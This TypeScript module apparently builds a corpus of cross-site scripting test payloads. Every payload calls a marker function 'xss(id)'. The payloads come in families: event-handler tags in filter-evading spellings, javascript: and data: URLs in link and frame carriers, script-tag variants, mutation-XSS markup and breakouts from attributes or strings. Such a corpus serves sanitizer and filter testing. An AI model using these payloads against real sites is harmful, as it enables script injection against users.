/**
 * Texts that try to make a browser run code: families of payloads, each in several spellings. Every
 * payload calls `xss(id)`; the id identifies the payload and its place.
 */
type Write = (run: string) => string

const handlers: readonly (readonly [tag: string, handler: string, end?: string])[] = [
  ["img src=x", "onerror"],
  ["img src=data:,", "onerror"],
  ["svg", "onload", "</svg>"],
  ["body", "onload"],
  ["video src=x", "onerror", "</video>"],
  ["audio src=x", "onerror", "</audio>"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus", "</select>"],
  ["textarea autofocus", "onfocus", "</textarea>"],
  ["details open", "ontoggle", "<summary>a</summary>a</details>"],
  ["iframe src=about:blank", "onload", "</iframe>"],
  ["object data=x", "onerror", "</object>"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror", "</script>"],
  ["style", "onload", "</style>"],
  ["p tabindex=0", "onfocus", "a</p>"],
  ["a href=#", "onclick", "a</a>"],
  ["b", "onmouseover", "a</b>"],
  ["form", "onsubmit", "<button>a</button></form>"],
  ["table", "onpointerdown", "<tr><td>a</td></tr></table>"],
  ["time", "ontransitionend", "a</time>"],
  ["x-a", "onanimationstart", "a</x-a>"],
]

/** Different spellings of the same tag, including those that try to evade a filter. */
const spellings: readonly ((tag: string, handler: string, run: string) => string)[] = [
  (tag, handler, run) => `<${tag} ${handler}="${run}">`,
  (tag, handler, run) => `<${tag} ${handler}='${run}'>`,
  (tag, handler, run) => `<${tag} ${handler}=${run}>`,
  (tag, handler, run) => `<${tag.replaceAll(" ", "/")}/${handler}=${run}>`,
  (tag, handler, run) => `<${mixed(tag)} ${mixed(handler)}="${run}">`,
  (tag, handler, run) => `<${tag}\n${handler}\t=\f"${entities(run)}"//>`,
  (tag, handler, run) => `<${tag} "x=">" ${handler}="${run}">`,
  (tag, handler, run) => `<<${tag} ${handler}=${run}//`,
  (tag, handler, run) => `<p title="<${tag} ${handler}=${run}>"><${tag} ${handler}=${run}>`,
]

const schemes: readonly Write[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java&#10;script:${run}`,
  (run) => `java&Tab;script&colon;${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `&#14;javascript:${run}`,
  (run) => entities(`javascript:${run}`),
  (run) => `javascript://%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  (run) => `vbscript:${run}`,
]

const carriers: readonly Write[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<a href='${url}' target=_self>a</a>`,
  (url) => `<form action="${url}"><button>a</button></form>`,
  (url) => `<form><button formaction="${url}">a</button></form>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>a</text></a></svg>`,
  (url) => `<math><mtext href="${url}">a</mtext></math>`,
  (url) => `<img src="${url}">`,
  (url) => `<base href="${url}"><a href=#>a</a>`,
  (url) => `<svg><a><animate attributeName=href values="${url}" /><text y=20>a</text></a></svg>`,
]

const scripts: readonly Write[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script>${run}`,
  (run) => `<script><!--\n${run}//--></script>`,
  (run) => `<svg><script>${entities(run)}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<!--!><script>${run}</script>`,
  (run) => `<!-- --!><script>${run}</script> -->`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `<?xml ?><script>${run}</script>`,
  (run) => `</p></div></main></body><script>${run}</script>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="${entities(`<script>${run}</script>`)}"></iframe>`,
  (run) => `<template shadowrootmode=open><script>${run}</script></template>`,
  (run) => `<link rel=preload as=script onload="${run}" href=x onerror="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
]

/** Markup that a parser reads differently the second time or in another place (mutation XSS). */
const mutations: readonly Write[] = [
  (live) => `<noscript><p title="</noscript>${live}">`,
  (live) => `<xmp><p title="</xmp>${live}">`,
  (live) => `<textarea><p title="</textarea>${live}">`,
  (live) => `<title><p title="</title>${live}">`,
  (live) => `<iframe><p title="</iframe>${live}">`,
  (live) => `<noembed><p title="</noembed>${live}">`,
  (live) => `<noframes><p title="</noframes>${live}">`,
  (live) => `<style><p title="</style>${live}">`,
  (live) => `<svg></p><style><a id="</style>${live}">`,
  (live) => `<svg><style>&lt;/style>${live}</style></svg>`,
  (live) => `<math><mtext><table><mglyph><style><!--</style>${live}-->`,
  (live) => `<form><math><mtext></form><form><mglyph><style></math>${live}`,
  (live) => `<math><annotation-xml encoding="text/html"><style>${live}</style></annotation-xml></math>`,
  (live) => `<svg><foreignObject><p><style><!--</style>${live}`,
  (live) => `<svg><desc><noscript><p title="</noscript>${live}"></desc></svg>`,
  (live) => `<table><caption><svg><title><td>${live}`,
  (live) => `<select><option><style></option></select>${live}</style>`,
  (live) => `<template><p>${live}</template>${live}`,
  (live) => `<a title="--></a>${live}<!--">`,
  (live) => `<p title='"${live}'>`,
]

/** Prefixes that break out of an attribute, a title, JSON or a string. */
const breakouts: readonly Write[] = [
  (live) => `">${live}`,
  (live) => `'>${live}`,
  (live) => `\`>${live}`,
  (live) => `</title>${live}`,
  (live) => `</textarea>${live}`,
  (live) => `</script>${live}`,
  (live) => `-->${live}`,
  (live) => `]]>${live}`,
  (live) => `"}</script>${live}`,
  (live) => `\\u003c/script\\u003e${live}`,
  (live) => `\u2028${live}`,
  (live) => `&lt;${live.slice(1).replaceAll("<", "&lt;")}`,
  (live) => encodeURIComponent(live),
]

const strings: readonly Write[] = [
  (run) => `" autofocus tabindex=0 onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `";${run};//`,
  (run) => `';${run};//`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `javascript:${run}`,
]

const families: readonly (readonly Write[])[] = [
  handlers.flatMap(([tag, handler, end = ""]) =>
    spellings.map(
      (spell): Write =>
        (run) =>
          spell(tag, handler, run) + end,
    ),
  ),
  carriers.flatMap((carry) =>
    schemes.map(
      (scheme): Write =>
        (run) =>
          carry(scheme(run)),
    ),
  ),
  scripts,
  ...[mutations, breakouts].map((wrappers) =>
    wrappers.flatMap((wrap) =>
      [
        (run: string) => `<img src=x onerror=${run}>`,
        (run: string) => `<script>${run}</script>`,
        (run: string) => `<svg/onload=${run}>`,
        (run: string) => `<a href=javascript:${run}>a</a>`,
      ].map(
        (live): Write =>
          (run) =>
            wrap(live(run)),
      ),
    ),
  ),
  strings,
]

/** Selects `count` payloads, spread evenly over all families. */
export function choosePayloads(count: number): Write[] {
  const all = families.flat()
  if (count > all.length) throw new Error(`there are ${all.length} payloads`)
  return Array.from({ length: count }, (_, n) => all[Math.floor((n * all.length) / count)] as Write)
}

function entities(text: string) {
  return Array.from(text, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join("")
}

function mixed(text: string) {
  return Array.from(text, (letter, n) => (n % 2 ? letter.toUpperCase() : letter)).join("")
}
